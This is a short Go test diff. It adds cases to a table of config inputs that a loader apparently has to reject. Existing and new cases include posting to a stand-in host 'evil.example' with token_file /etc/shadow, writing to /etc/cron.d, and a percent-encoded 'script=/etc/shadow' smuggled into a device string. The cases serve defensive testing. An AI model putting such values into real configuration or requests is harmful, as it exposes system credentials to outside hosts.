@@ -29,6 +29,8 @@ func TestWhatOnlyTheFileSays(t *testing.T) {
 		"days":       sample + "\ndaily: {dir: /etc/cron.d}\n",
 		"a host":     sample + "\ndaily: {post: {url: 'https://evil.example/x'}}\n",
 		"a secret":   sample + "\ndaily: {post: {url: 'https://evil.example/x', token_file: /etc/shadow}}\n",
+		"a file":     strings.Replace(sample, `"virtual:?profile=epson-80&baud=115200"`, `"file:/tmp/slips"`, 1),
+		"a script":   strings.Replace(sample, `"virtual:?profile=epson-80&baud=115200"`, `"virtual:?%73cript=/etc/shadow"`, 1),
 		"words":      own("/etc/ug.json"),
 		"words away": own("../ug.json"),
 	} {
